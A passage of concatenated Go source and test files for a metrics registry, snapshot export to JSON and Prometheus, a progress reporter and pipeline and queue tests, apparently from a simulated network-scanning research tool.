		c.v.Add(n)
	}
}

// Value reads the counter (0 on nil).
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a settable int64 (last-write-wins under concurrency; use it
// for values with a single writer or where any latest value is fine).
type Gauge struct {
	v atomic.Int64
}

// Set stores v. Safe on a nil Gauge.
func (g *Gauge) Set(v int64) {
	if g != nil {
		g.v.Store(v)
	}
}

// Add adds d. Safe on a nil Gauge.
func (g *Gauge) Add(d int64) {
	if g != nil {
		g.v.Add(d)
	}
}

// Value reads the gauge (0 on nil).
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// Histogram is a fixed-bucket integer histogram. Bucket i counts
// observations v <= bounds[i]; one implicit overflow bucket counts the
// rest. Counts and the sum are integers, so concurrent observation
// order can never change a snapshot.
type Histogram struct {
	bounds []int64
	counts []atomic.Uint64 // len(bounds)+1, last is overflow
	sum    atomic.Int64
}

// Observe records v. Safe on a nil Histogram.
func (h *Histogram) Observe(v int64) {
	if h == nil {
		return
	}
	i := sort.Search(len(h.bounds), func(i int) bool { return v <= h.bounds[i] })
	h.counts[i].Add(1)
	h.sum.Add(v)
}

// Registry is a named collection of metrics. All methods are safe for
// concurrent use, and every method is safe on a nil *Registry (the
// "metrics off" configuration), returning nil handles.
type Registry struct {
	mu    sync.Mutex
	names map[string]*entry
}

// entry is one registered metric with its metadata.
type entry struct {
	name    string
	class   Class
	counter *Counter
	gauge   *Gauge
	hist    *Histogram
}

func (e *entry) kind() string {
	switch {
	case e.counter != nil:
		return "counter"
	case e.gauge != nil:
		return "gauge"
	default:
		return "histogram"
	}
}

// New builds an empty registry.
func New() *Registry {
	return &Registry{names: map[string]*entry{}}
}

// lookup returns the entry for name, creating it via mk on first use.
// Re-registering a name with a different kind or class is a programmer
// error and panics: two subsystems silently sharing one name would
// merge unrelated counts.
func (r *Registry) lookup(name, kind string, class Class, mk func() *entry) *entry {
	r.mu.Lock()
	defer r.mu.Unlock()
	if e, ok := r.names[name]; ok {
		if e.kind() != kind || e.class != class {
			panic(fmt.Sprintf("metrics: %q re-registered as %s/%s (was %s/%s)",
				name, kind, class, e.kind(), e.class))
		}
		return e
	}
	e := mk()
	r.names[name] = e
	return e
}

// Counter returns the deterministic counter named name, creating it on
// first use. Nil-safe: a nil registry returns a nil (no-op) counter.
func (r *Registry) Counter(name string) *Counter {
	return r.counter(name, Deterministic)
}

// TimingCounter is Counter with the Timing class: its value derives
// from a clock and is excluded by StripTiming.
func (r *Registry) TimingCounter(name string) *Counter {
	return r.counter(name, Timing)
}

func (r *Registry) counter(name string, class Class) *Counter {
	if r == nil {
		return nil
	}
	e := r.lookup(name, "counter", class, func() *entry {
		return &entry{name: name, class: class, counter: &Counter{}}
	})
	return e.counter
}

// Gauge returns the deterministic gauge named name.
func (r *Registry) Gauge(name string) *Gauge {
	return r.gauge(name, Deterministic)
}

// TimingGauge is Gauge with the Timing class.
func (r *Registry) TimingGauge(name string) *Gauge {
	return r.gauge(name, Timing)
}

func (r *Registry) gauge(name string, class Class) *Gauge {
	if r == nil {
		return nil
	}
	e := r.lookup(name, "gauge", class, func() *entry {
		return &entry{name: name, class: class, gauge: &Gauge{}}
	})
	return e.gauge
}

// Histogram returns the deterministic histogram named name with the
// given ascending bucket upper bounds (an overflow bucket is implicit).
// The bounds of an existing histogram must match.
func (r *Registry) Histogram(name string, bounds []int64) *Histogram {
	return r.histogram(name, Deterministic, bounds)
}

// TimingHistogram is Histogram with the Timing class — the natural home
// for duration distributions observed on an injected Clock.
func (r *Registry) TimingHistogram(name string, bounds []int64) *Histogram {
	return r.histogram(name, Timing, bounds)
}

func (r *Registry) histogram(name string, class Class, bounds []int64) *Histogram {
	if r == nil {
		return nil
	}
	for i := 1; i < len(bounds); i++ {
		if bounds[i] <= bounds[i-1] {
			panic(fmt.Sprintf("metrics: histogram %q bounds not strictly ascending", name))
		}
	}
	e := r.lookup(name, "histogram", class, func() *entry {
		h := &Histogram{bounds: append([]int64(nil), bounds...)}
		h.counts = make([]atomic.Uint64, len(bounds)+1)
		return &entry{name: name, class: class, hist: h}
	})
	if len(e.hist.bounds) != len(bounds) {
		panic(fmt.Sprintf("metrics: histogram %q re-registered with different buckets", name))
	}
	for i, b := range bounds {
		if e.hist.bounds[i] != b {
			panic(fmt.Sprintf("metrics: histogram %q re-registered with different buckets", name))
		}
	}
	return e.hist
}
