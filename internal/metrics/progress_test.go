package metrics

import (
	"strings"
	"sync"
	"testing"
	"time"
)

// tickClock is a fake Clock whose Sleep blocks until the test releases
// one tick, so the reporter goroutine runs in lock-step with the test.
type tickClock struct {
	ticks chan struct{}
	now   time.Time
}

func (c *tickClock) Now() time.Time { return c.now }

func (c *tickClock) Sleep(time.Duration) {
	if _, ok := <-c.ticks; !ok {
		// Channel closed: the test is done; park forever so a stopped
		// reporter never spins.
		select {}
	}
}

// syncBuffer is a goroutine-safe string sink.
type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func (s *syncBuffer) lines() int {
	return strings.Count(s.String(), "\n")
}

func TestStartProgressWritesAndStops(t *testing.T) {
	clock := &tickClock{ticks: make(chan struct{})}
	var out syncBuffer
	r := New()
	r.Counter("scanner.sweep.sent").Add(40)
	r.Counter("scanner.sweep.recv").Add(10)
	r.Counter("wildnet.fault.garbled").Add(3)
	r.Counter("pipeline.stage.done").Add(2)
	r.Counter("pipeline.stage.skipped").Add(1)

	stop := StartProgress(&out, clock, time.Second, r, nil)
	clock.ticks <- struct{}{} // release one interval
	waitFor(t, func() bool { return out.lines() == 1 })

	want := "progress: sent=40 recv=10 (25.0%) faults=3 stages=2/3\n"
	if got := out.String(); got != want {
		t.Errorf("progress line = %q, want %q", got, want)
	}

	stop()
	// A tick arriving after stop must not produce another line.
	clock.ticks <- struct{}{}
	time.Sleep(10 * time.Millisecond)
	if out.lines() != 1 {
		t.Errorf("reporter wrote after stop: %q", out.String())
	}
}

// TestProgressLineEmptySnapshot: the reporter must not divide by zero
// before the first probe.
func TestProgressLineEmptySnapshot(t *testing.T) {
	got := ProgressLine(Snapshot{})
	want := "progress: sent=0 recv=0 (0.0%) faults=0 stages=0/0"
	if got != want {
		t.Errorf("ProgressLine(empty) = %q, want %q", got, want)
	}
}

// waitFor polls cond with a real-time bound; used only to synchronize
// with the reporter goroutine, never to assert timing.
func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not reached within 5s")
		}
		time.Sleep(time.Millisecond)
	}
}
