package metrics

import (
	"fmt"
	"io"
	"strings"
	"sync"
	"time"
)

// Clock is the minimal clock the progress reporter needs. It is
// structurally satisfied by scanner.Clock, so the cmds hand their
// injected clock straight through and fake-clock tests drive the
// reporter deterministically — the package never touches the wall
// clock itself.
type Clock interface {
	Now() time.Time
	Sleep(d time.Duration)
}

// StartProgress launches a reporter goroutine that writes one rendered
// progress line to w per interval, slept on clock. A nil render uses
// ProgressLine. The returned stop function halts the reporter: no line
// is written after stop returns. Progress output is an operator side
// channel — point w at stderr, never stdout.
func StartProgress(w io.Writer, clock Clock, interval time.Duration, r *Registry, render func(Snapshot) string) (stop func()) {
	if render == nil {
		render = ProgressLine
	}
	var mu sync.Mutex // serializes writes against stop
	stopped := false
	go func() {
		for {
			clock.Sleep(interval)
			mu.Lock()
			if stopped {
				mu.Unlock()
				return
			}
			fmt.Fprintln(w, render(r.Snapshot()))
			mu.Unlock()
		}
	}()
	return func() {
		mu.Lock()
		stopped = true
		mu.Unlock()
	}
}

// ProgressLine renders the operator's one-line traffic summary: total
// probes sent and responses received (summed over every *.sent/*.recv
// counter), injected faults, and pipeline stage progress. It is the
// simulated analogue of the live rate accounting the paper's operators
// watched during their weekly censuses (§2.2).
func ProgressLine(s Snapshot) string {
	var sent, recv, faults uint64
	for _, c := range s.Counters {
		switch {
		case strings.HasSuffix(c.Name, ".sent"):
			sent += c.Value
		case strings.HasSuffix(c.Name, ".recv"):
			recv += c.Value
		case strings.HasPrefix(c.Name, "wildnet.fault."):
			faults += c.Value
		}
	}
	ratio := 0.0
	if sent > 0 {
		ratio = float64(recv) / float64(sent)
	}
	return fmt.Sprintf("progress: sent=%d recv=%d (%.1f%%) faults=%d stages=%d/%d",
		sent, recv, 100*ratio, faults,
		s.Counter("pipeline.stage.done"),
		s.Counter("pipeline.stage.done")+s.Counter("pipeline.stage.degraded")+
			s.Counter("pipeline.stage.failed")+s.Counter("pipeline.stage.skipped"))
}
