package metrics

import (
	"bytes"
	"encoding/json"
	"runtime"
	"strings"
	"sync"
	"testing"
)

func TestCounterGaugeHistogramBasics(t *testing.T) {
	r := New()
	c := r.Counter("scan.sent")
	c.Inc()
	c.Add(4)
	if got := c.Value(); got != 5 {
		t.Errorf("counter = %d, want 5", got)
	}
	g := r.Gauge("scan.inflight")
	g.Set(7)
	g.Add(-2)
	if got := g.Value(); got != 5 {
		t.Errorf("gauge = %d, want 5", got)
	}
	h := r.Histogram("scan.batch", []int64{10, 100})
	h.Observe(5)
	h.Observe(50)
	h.Observe(500)
	s := r.Snapshot()
	if len(s.Histograms) != 1 {
		t.Fatalf("got %d histograms, want 1", len(s.Histograms))
	}
	hv := s.Histograms[0]
	if hv.Count != 3 || hv.Sum != 555 {
		t.Errorf("count=%d sum=%d, want 3/555", hv.Count, hv.Sum)
	}
	wantBuckets := []uint64{1, 1, 1}
	for i, b := range hv.Buckets {
		if b.Count != wantBuckets[i] {
			t.Errorf("bucket %d count = %d, want %d", i, b.Count, wantBuckets[i])
		}
	}
	if hv.Buckets[2].Upper != nil {
		t.Error("overflow bucket must have nil upper bound")
	}
}

// TestSameNameReturnsSameMetric pins the registry contract: repeated
// resolution of one name yields one underlying metric, so subsystems
// can resolve handles independently.
func TestSameNameReturnsSameMetric(t *testing.T) {
	r := New()
	r.Counter("x").Inc()
	r.Counter("x").Inc()
	if got := r.Counter("x").Value(); got != 2 {
		t.Errorf("counter = %d, want 2", got)
	}
	h1 := r.Histogram("h", []int64{1, 2})
	h2 := r.Histogram("h", []int64{1, 2})
	if h1 != h2 {
		t.Error("same name+bounds returned distinct histograms")
	}
}

// TestNilRegistryIsNoOp: a nil registry is the "metrics off"
// configuration; every handle it returns must absorb updates silently.
func TestNilRegistryIsNoOp(t *testing.T) {
	var r *Registry
	c := r.Counter("a")
	c.Inc()
	c.Add(10)
	if c.Value() != 0 {
		t.Error("nil counter accumulated")
	}
	g := r.TimingGauge("b")
	g.Set(5)
	g.Add(1)
	if g.Value() != 0 {
		t.Error("nil gauge accumulated")
	}
	h := r.Histogram("c", []int64{1})
	h.Observe(100)
	s := r.Snapshot()
	if len(s.Counters)+len(s.Gauges)+len(s.Histograms) != 0 {
		t.Error("nil registry produced a non-empty snapshot")
	}
}

// TestConflictingRegistrationPanics: one name, one meaning. Silently
// merging a counter with a gauge (or a timing metric with a
// deterministic one) would corrupt both, so the registry panics.
func TestConflictingRegistrationPanics(t *testing.T) {
	expectPanic := func(name string, f func()) {
		t.Helper()
		defer func() {
			if recover() == nil {
				t.Errorf("%s: no panic", name)
			}
		}()
		f()
	}
	r := New()
	r.Counter("kind")
	expectPanic("kind conflict", func() { r.Gauge("kind") })
	r.Counter("class")
	expectPanic("class conflict", func() { r.TimingCounter("class") })
	r.Histogram("buckets", []int64{1, 2})
	expectPanic("bucket mismatch", func() { r.Histogram("buckets", []int64{1, 3}) })
	expectPanic("bucket count mismatch", func() { r.Histogram("buckets", []int64{1}) })
	expectPanic("unsorted bounds", func() { r.Histogram("bad", []int64{2, 1}) })
}

// TestSnapshotSortedAndReproducible: registration order must not leak
// into the export — two registries filled in opposite orders serialize
// byte-identically.
func TestSnapshotSortedAndReproducible(t *testing.T) {
	fill := func(names []string) *Registry {
		r := New()
		for _, n := range names {
			r.Counter(n).Add(uint64(len(n)))
		}
		r.Gauge("g.z").Set(1)
		r.Gauge("g.a").Set(2)
		return r
	}
	a := fill([]string{"b", "c", "a"})
	b := fill([]string{"a", "b", "c"})
	var bufA, bufB bytes.Buffer
	if err := a.Snapshot().WriteJSON(&bufA); err != nil {
		t.Fatal(err)
	}
	if err := b.Snapshot().WriteJSON(&bufB); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(bufA.Bytes(), bufB.Bytes()) {
		t.Errorf("registration order leaked into the export:\n%s\nvs\n%s", bufA.String(), bufB.String())
	}
	names := a.Snapshot().Counters
	for i := 1; i < len(names); i++ {
		if names[i-1].Name >= names[i].Name {
			t.Errorf("counters not sorted: %q before %q", names[i-1].Name, names[i].Name)
		}
	}
}

// TestStripTimingSurvivesJSON: the determinism guard filters on the
// exported class string, so stripping must work on a snapshot that has
// been through a JSON round-trip (e.g. one read back from a -metrics
// file).
func TestStripTimingSurvivesJSON(t *testing.T) {
	r := New()
	r.Counter("det.count").Inc()
	r.TimingCounter("time.count").Inc()
	r.Gauge("det.gauge").Set(1)
	r.TimingGauge("time.gauge").Set(1)
	r.Histogram("det.hist", []int64{1}).Observe(1)
	r.TimingHistogram("time.hist", []int64{1}).Observe(1)

	var buf bytes.Buffer
	if err := r.Snapshot().WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var round Snapshot
	if err := json.Unmarshal(buf.Bytes(), &round); err != nil {
		t.Fatal(err)
	}
	stripped := round.StripTiming()
	if len(stripped.Counters) != 1 || stripped.Counters[0].Name != "det.count" {
		t.Errorf("counters after strip: %+v", stripped.Counters)
	}
	if len(stripped.Gauges) != 1 || stripped.Gauges[0].Name != "det.gauge" {
		t.Errorf("gauges after strip: %+v", stripped.Gauges)
	}
	if len(stripped.Histograms) != 1 || stripped.Histograms[0].Name != "det.hist" {
		t.Errorf("histograms after strip: %+v", stripped.Histograms)
	}
}

func TestWritePrometheus(t *testing.T) {
	r := New()
	r.Counter("scan.sweep.sent").Add(12)
	r.Gauge("pipeline.stage.census.ms").Set(34)
	r.Histogram("pipeline.stage.duration.ms", []int64{10, 100}).Observe(5)
	r.Histogram("pipeline.stage.duration.ms", []int64{10, 100}).Observe(50)
	var buf bytes.Buffer
	if err := r.Snapshot().WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	want := strings.Join([]string{
		"# TYPE scan_sweep_sent counter",
		"scan_sweep_sent 12",
		"# TYPE pipeline_stage_census_ms gauge",
		"pipeline_stage_census_ms 34",
		"# TYPE pipeline_stage_duration_ms histogram",
		`pipeline_stage_duration_ms_bucket{le="10"} 1`,
		`pipeline_stage_duration_ms_bucket{le="100"} 2`,
		`pipeline_stage_duration_ms_bucket{le="+Inf"} 2`,
		"pipeline_stage_duration_ms_sum 55",
		"pipeline_stage_duration_ms_count 2",
		"",
	}, "\n")
	if got := buf.String(); got != want {
		t.Errorf("prometheus text:\n--- got ---\n%s--- want ---\n%s", got, want)
	}
}

// TestConcurrentUpdatesAreSchedulerIndependent is the reproducibility
// stress test: many goroutines hammer one registry (also racing the
// name lookups), and the final snapshot must equal the arithmetic
// total regardless of GOMAXPROCS or interleaving. Run under -race this
// also proves the registry is data-race free.
func TestConcurrentUpdatesAreSchedulerIndependent(t *testing.T) {
	const goroutines, perG = 16, 1000
	run := func(procs int) []byte {
		defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(procs))
		r := New()
		var wg sync.WaitGroup
		for g := 0; g < goroutines; g++ {
			wg.Add(1)
			go func(g int) {
				defer wg.Done()
				for i := 0; i < perG; i++ {
					// Resolve by name each time: lookup is part of the
					// concurrent surface under test.
					r.Counter("stress.count").Inc()
					r.Counter("stress.bytes").Add(3)
					r.Histogram("stress.hist", []int64{256, 512}).Observe(int64(i % 1024))
				}
				r.Gauge("stress.workers").Set(goroutines)
			}(g)
		}
		wg.Wait()
		var buf bytes.Buffer
		if err := r.Snapshot().WriteJSON(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}

	first := run(1)
	var snap Snapshot
	if err := json.Unmarshal(first, &snap); err != nil {
		t.Fatal(err)
	}
	if got := snap.Counter("stress.count"); got != goroutines*perG {
		t.Errorf("stress.count = %d, want %d", got, goroutines*perG)
	}
	if got := snap.Counter("stress.bytes"); got != 3*goroutines*perG {
		t.Errorf("stress.bytes = %d, want %d", got, 3*goroutines*perG)
	}
	for _, procs := range []int{2, runtime.NumCPU()} {
		if again := run(procs); !bytes.Equal(first, again) {
			t.Errorf("snapshot diverged at GOMAXPROCS=%d:\n%s\nvs\n%s", procs, first, again)
		}
	}
}
