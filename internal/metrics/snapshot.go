package metrics

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strings"
)

// CounterValue is one counter in a snapshot.
type CounterValue struct {
	Name  string `json:"name"`
	Class string `json:"class"`
	Value uint64 `json:"value"`
}

// GaugeValue is one gauge in a snapshot.
type GaugeValue struct {
	Name  string `json:"name"`
	Class string `json:"class"`
	Value int64  `json:"value"`
}

// Bucket is one histogram bucket: the count of observations at or below
// the upper bound. The overflow bucket has Upper == nil.
type Bucket struct {
	Upper *int64 `json:"le"`
	Count uint64 `json:"count"`
}

// HistogramValue is one histogram in a snapshot.
type HistogramValue struct {
	Name    string   `json:"name"`
	Class   string   `json:"class"`
	Buckets []Bucket `json:"buckets"`
	Count   uint64   `json:"count"`
	Sum     int64    `json:"sum"`
}

// Snapshot is a point-in-time copy of a registry, sorted by name within
// each section. Equal registries produce byte-identical exports.
type Snapshot struct {
	Counters   []CounterValue   `json:"counters"`
	Gauges     []GaugeValue     `json:"gauges"`
	Histograms []HistogramValue `json:"histograms"`
}

// Snapshot copies the registry's current values. A nil registry yields
// an empty snapshot. Counters and histogram buckets are read without a
// global pause, so a snapshot taken mid-scan is a consistent-enough
// operator view, not a linearizable cut; snapshots taken after the
// instrumented work finishes are exact.
func (r *Registry) Snapshot() Snapshot {
	var s Snapshot
	if r == nil {
		return s
	}
	r.mu.Lock()
	entries := make([]*entry, 0, len(r.names))
	for _, e := range r.names {
		entries = append(entries, e)
	}
	r.mu.Unlock()
	sort.Slice(entries, func(i, j int) bool { return entries[i].name < entries[j].name })
	for _, e := range entries {
		switch {
		case e.counter != nil:
			s.Counters = append(s.Counters, CounterValue{
				Name: e.name, Class: e.class.String(), Value: e.counter.Value(),
			})
		case e.gauge != nil:
			s.Gauges = append(s.Gauges, GaugeValue{
				Name: e.name, Class: e.class.String(), Value: e.gauge.Value(),
			})
		case e.hist != nil:
			h := e.hist
			hv := HistogramValue{Name: e.name, Class: e.class.String(), Sum: h.sum.Load()}
			for i := range h.counts {
				n := h.counts[i].Load()
				b := Bucket{Count: n}
				if i < len(h.bounds) {
					u := h.bounds[i]
					b.Upper = &u
				}
				hv.Buckets = append(hv.Buckets, b)
				hv.Count += n
			}
			s.Histograms = append(s.Histograms, hv)
		}
	}
	return s
}

// StripTiming returns a copy of the snapshot without timing-class
// metrics — the form determinism guards compare byte-for-byte across
// runs and GOMAXPROCS settings.
func (s Snapshot) StripTiming() Snapshot {
	var out Snapshot
	for _, c := range s.Counters {
		if c.Class != Timing.String() {
			out.Counters = append(out.Counters, c)
		}
	}
	for _, g := range s.Gauges {
		if g.Class != Timing.String() {
			out.Gauges = append(out.Gauges, g)
		}
	}
	for _, h := range s.Histograms {
		if h.Class != Timing.String() {
			out.Histograms = append(out.Histograms, h)
		}
	}
	return out
}

// Counter returns the value of the named counter (0 when absent), for
// test assertions against a snapshot.
func (s Snapshot) Counter(name string) uint64 {
	for _, c := range s.Counters {
		if c.Name == name {
			return c.Value
		}
	}
	return 0
}

// Gauge returns the value of the named gauge (0 when absent).
func (s Snapshot) Gauge(name string) int64 {
	for _, g := range s.Gauges {
		if g.Name == name {
			return g.Value
		}
	}
	return 0
}

// WriteJSON writes the snapshot as indented JSON. Sections and entries
// are already sorted, so equal snapshots serialize byte-identically.
func (s Snapshot) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(s)
}

// WritePrometheus writes the snapshot in the Prometheus text exposition
// format: one TYPE line and one sample per metric, names sanitized to
// the [a-zA-Z0-9_] alphabet, histograms expanded into cumulative
// _bucket/_sum/_count series.
func (s Snapshot) WritePrometheus(w io.Writer) error {
	var b strings.Builder
	for _, c := range s.Counters {
		n := promName(c.Name)
		fmt.Fprintf(&b, "# TYPE %s counter\n%s %d\n", n, n, c.Value)
	}
	for _, g := range s.Gauges {
		n := promName(g.Name)
		fmt.Fprintf(&b, "# TYPE %s gauge\n%s %d\n", n, n, g.Value)
	}
	for _, h := range s.Histograms {
		n := promName(h.Name)
		fmt.Fprintf(&b, "# TYPE %s histogram\n", n)
		cum := uint64(0)
		for _, bk := range h.Buckets {
			cum += bk.Count
			le := "+Inf"
			if bk.Upper != nil {
				le = fmt.Sprintf("%d", *bk.Upper)
			}
			fmt.Fprintf(&b, "%s_bucket{le=%q} %d\n", n, le, cum)
		}
		fmt.Fprintf(&b, "%s_sum %d\n%s_count %d\n", n, h.Sum, n, h.Count)
	}
	_, err := io.WriteString(w, b.String())
	return err
}

// promName maps a dotted registry name to the Prometheus alphabet.
func promName(name string) string {
	var b strings.Builder
	for i := 0; i < len(name); i++ {
		c := name[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c == '_':
			b.WriteByte(c)
		case c >= '0' && c <= '9':
			if i == 0 {
				b.WriteByte('_')
			}
			b.WriteByte(c)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}
