package pipeline

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

// epochStage logs "name@epoch" per epoch.
func epochStage(name string, needs []string, log *[]string) Stage {
	return Stage{Name: name, Needs: needs, RunEpoch: func(ctx context.Context, epoch int) ([]Count, error) {
		*log = append(*log, fmt.Sprintf("%s@%d", name, epoch))
		return []Count{{Name: name + " items", Value: epoch}}, nil
	}}
}

func TestRunEpochsOrderAndFinalizers(t *testing.T) {
	var log []string
	e := New(newFakeClock(), nil)
	// Finalizer added first: it still runs last, after every epoch.
	e.MustAdd(Stage{Name: "final", Needs: []string{"apply"}, Run: func(ctx context.Context) ([]Count, error) {
		log = append(log, "final")
		return []Count{{Name: "total", Value: 9}}, nil
	}})
	e.MustAdd(epochStage("produce", nil, &log))
	e.MustAdd(epochStage("apply", []string{"produce"}, &log))
	trace, err := e.RunEpochs(context.Background(), 3)
	if err != nil {
		t.Fatal(err)
	}
	want := "produce@0,apply@0,produce@1,apply@1,produce@2,apply@2,final"
	if got := strings.Join(log, ","); got != want {
		t.Fatalf("execution order %s, want %s", got, want)
	}
	if len(trace.Stages) != 7 {
		t.Fatalf("trace has %d results, want 7: %+v", len(trace.Stages), trace.Stages)
	}
	if trace.Stages[0].Epoch != 0 || trace.Stages[5].Epoch != 2 {
		t.Errorf("epoch tags wrong: %+v", trace.Stages)
	}
	if last := trace.Stages[6]; last.Name != "final" || last.Epoch != BatchEpoch {
		t.Errorf("finalizer recorded as %+v, want final at BatchEpoch", last)
	}
	// Counts concatenate the full epoch history in execution order.
	counts := trace.Counts()
	if len(counts) != 7 || counts[6] != (Count{"total", 9}) {
		t.Errorf("counts = %v", counts)
	}
}

func TestRunEpochsZeroEpochsRunsOnlyFinalizers(t *testing.T) {
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(epochStage("stream", nil, &log))
	e.MustAdd(Stage{Name: "final", Run: func(ctx context.Context) ([]Count, error) {
		log = append(log, "final")
		return nil, nil
	}})
	if _, err := e.RunEpochs(context.Background(), 0); err != nil {
		t.Fatal(err)
	}
	if strings.Join(log, ",") != "final" {
		t.Errorf("ran %v, want only the finalizer", log)
	}
	if _, err := e.RunEpochs(context.Background(), -1); err == nil {
		t.Error("negative epoch count accepted")
	}
}

func TestBatchRunRejectsEpochOnlyStage(t *testing.T) {
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(epochStage("stream", nil, &log))
	if _, err := e.Run(context.Background()); err == nil || !strings.Contains(err.Error(), "epoch-only") {
		t.Errorf("batch Run over an epoch-only stage: err = %v, want epoch-only rejection", err)
	}
}

func TestRunEpochsRequiredFailureAbortsStream(t *testing.T) {
	boom := errors.New("boom")
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(Stage{Name: "bad", RunEpoch: func(ctx context.Context, epoch int) ([]Count, error) {
		log = append(log, fmt.Sprintf("bad@%d", epoch))
		if epoch == 1 {
			return nil, boom
		}
		return nil, nil
	}})
	e.MustAdd(epochStage("after", []string{"bad"}, &log))
	e.MustAdd(Stage{Name: "final", Needs: []string{"after"}, Run: func(ctx context.Context) ([]Count, error) {
		log = append(log, "final")
		return nil, nil
	}})
	trace, err := e.RunEpochs(context.Background(), 4)
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want wrapped boom", err)
	}
	if got := strings.Join(log, ","); got != "bad@0,after@0,bad@1" {
		t.Errorf("ran %s, want the stream to die at bad@1", got)
	}
	// The epoch-1 survivors and the finalizer are skipped exactly once.
	if strings.Join(trace.Skipped, ",") != "after,final" {
		t.Errorf("skipped = %v, want [after final]", trace.Skipped)
	}
}

func TestRunEpochsBestEffortDegradesPerEpoch(t *testing.T) {
	soft := errors.New("soft")
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(Stage{Name: "flaky", Policy: BestEffort, RunEpoch: func(ctx context.Context, epoch int) ([]Count, error) {
		if epoch == 1 {
			return nil, soft
		}
		log = append(log, fmt.Sprintf("flaky@%d", epoch))
		return nil, nil
	}})
	e.MustAdd(epochStage("apply", []string{"flaky"}, &log))
	trace, err := e.RunEpochs(context.Background(), 3)
	if err != nil {
		t.Fatalf("best-effort epoch failure aborted the stream: %v", err)
	}
	// flaky degrades in epoch 1 only and comes back in epoch 2: a
	// transient fault must not drop the stage for the rest of the stream.
	want := "flaky@0,apply@0,apply@1,flaky@2,apply@2"
	if got := strings.Join(log, ","); got != want {
		t.Errorf("ran %s, want %s", got, want)
	}
	deg := trace.Degraded()
	if len(deg) != 1 || deg[0].Name != "flaky" || deg[0].Epoch != 1 {
		t.Errorf("Degraded() = %+v, want flaky at epoch 1", deg)
	}
}

func TestRunEpochsCancellationSkipsRest(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var log []string
	e := New(newFakeClock(), nil)
	e.MustAdd(Stage{Name: "stream", RunEpoch: func(ctx context.Context, epoch int) ([]Count, error) {
		log = append(log, fmt.Sprintf("stream@%d", epoch))
		if epoch == 1 {
			cancel()
		}
		return nil, nil
	}})
	e.MustAdd(Stage{Name: "final", Run: func(ctx context.Context) ([]Count, error) {
		log = append(log, "final")
		return nil, nil
	}})
	_, err := e.RunEpochs(ctx, 5)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if got := strings.Join(log, ","); got != "stream@0,stream@1" {
		t.Errorf("ran %s, want cancellation after stream@1", got)
	}
}

func TestQueueBackpressureAndOrder(t *testing.T) {
	q := NewQueue[int](2)
	ctx := context.Background()
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer q.Close()
		for i := 0; i < 10; i++ {
			if err := q.Put(ctx, i); err != nil {
				t.Errorf("Put(%d): %v", i, err)
				return
			}
		}
	}()
	// The producer can run at most 2 items ahead; drain slowly and check
	// FIFO order survives the blocking handoffs.
	var got []int
	for {
		v, ok, err := q.Get(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if !ok {
			break
		}
		got = append(got, v)
		if lag := q.Len(); lag > 2 {
			t.Fatalf("queue lag %d exceeds capacity 2", lag)
		}
	}
	<-done
	if len(got) != 10 {
		t.Fatalf("drained %d items, want 10", len(got))
	}
	for i, v := range got {
		if v != i {
			t.Fatalf("item %d = %d; order not preserved", i, v)
		}
	}
	// Closed and drained: Get reports the end of the stream.
	if _, ok, err := q.Get(ctx); ok || err != nil {
		t.Errorf("Get after close = ok=%v err=%v, want stream end", ok, err)
	}
	if err := q.Put(ctx, 99); err == nil {
		t.Error("Put after Close accepted")
	}
	q.Close() // idempotent
}

func TestQueueHonorsContext(t *testing.T) {
	q := NewQueue[int](1)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Millisecond)
	defer cancel()
	if err := q.Put(context.Background(), 1); err != nil {
		t.Fatal(err)
	}
	// Queue full: the next Put must unblock on the dead context.
	if err := q.Put(ctx, 2); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("blocked Put err = %v, want deadline", err)
	}
	if _, _, err := q.Get(context.Background()); err != nil {
		t.Fatal(err)
	}
	if _, ok, err := q.Get(ctx); ok || !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("blocked Get = ok=%v err=%v, want deadline", ok, err)
	}
}
