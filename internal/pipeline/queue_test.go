package pipeline

import (
	"context"
	"errors"
	"testing"
	"time"
)

// TestQueueCloseUnblocksPut pins the shutdown contract: a producer
// blocked on a full queue must unblock with ErrQueueClosed when the
// consumer closes the queue — no panic, no hang — and the items that
// made it in before the close still drain through Get.
func TestQueueCloseUnblocksPut(t *testing.T) {
	q := NewQueue[int](1)
	ctx := context.Background()
	if err := q.Put(ctx, 1); err != nil {
		t.Fatal(err)
	}
	blocked := make(chan error, 1)
	go func() { blocked <- q.Put(ctx, 2) }() // queue full: must block
	select {
	case err := <-blocked:
		t.Fatalf("Put on a full queue returned early: %v", err)
	case <-time.After(10 * time.Millisecond):
	}
	q.Close()
	select {
	case err := <-blocked:
		if !errors.Is(err, ErrQueueClosed) {
			t.Fatalf("blocked Put unblocked with %v, want ErrQueueClosed", err)
		}
	case <-time.After(time.Second):
